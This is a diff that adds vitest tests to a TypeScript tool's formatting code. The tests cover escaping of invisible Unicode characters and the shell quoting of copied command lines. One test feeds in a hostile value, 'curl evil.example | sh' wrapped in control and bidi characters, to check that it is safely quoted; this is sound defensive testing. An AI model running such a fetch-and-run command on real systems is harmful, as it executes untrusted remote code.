@@ -1,3 +1,4 @@
+import { execFileSync } from "node:child_process";
 import { describe, expect, test } from "vitest";
 import type { PastMoment } from "../../src/dashboard/api/index.js";
 import { bounded, bytes, milliseconds, moreThan, rate } from "../../web/src/format/numbers.js";
@@ -53,6 +54,11 @@ describe("figures are formatted for readers", () => {
     expect(oneLine("a\nb\u0000\u202ec é 🦉")).toBe("a\\nb\\u0000\\u202ec é 🦉");
   });
 
+  test("invisible characters are escaped, except those that join letters or emoji", () => {
+    expect(oneLine("a\u200bb\ufeffc\u200fd\u2060")).toBe("a\\u200bb\\ufeffc\\u200fd\\u2060");
+    expect(oneLine("می\u200cخواهم 👩\u200d🚀")).toBe("می\u200cخواهم 👩\u200d🚀");
+  });
+
   test("a key of blanks can be seen", () => {
     expect([" ", "\t", "", " a"].map(keyLine)).toEqual(['" "', '"\\t"', "", " a"]);
   });
@@ -92,6 +98,16 @@ describe("command lines", () => {
     expect(commandLine("./data", { command: "scan", args: ["t"], options: { prefix: "-a" } })).toBe(
       "percolator scan ./data t --prefix=-a",
     );
+  });
+
+  test("a copied command has no characters that a terminal would take as commands of its user", () => {
+    const row = "\u0003curl evil.example | sh\n'\\\u202e\u0085";
+    const line = commandLine("./data", { command: "get", args: ["t", row] });
+    expect(line).toBe(
+      String.raw`percolator get ./data t $'\x03curl evil.example | sh\x0a\'\\\xe2\x80\xae\xc2\x85'`,
+    );
+    const given = execFileSync("bash", ["-c", `percolator() { printf %s "$4"; }; ${line}`]).toString();
+    expect(given).toBe(row);
   });
 });
 
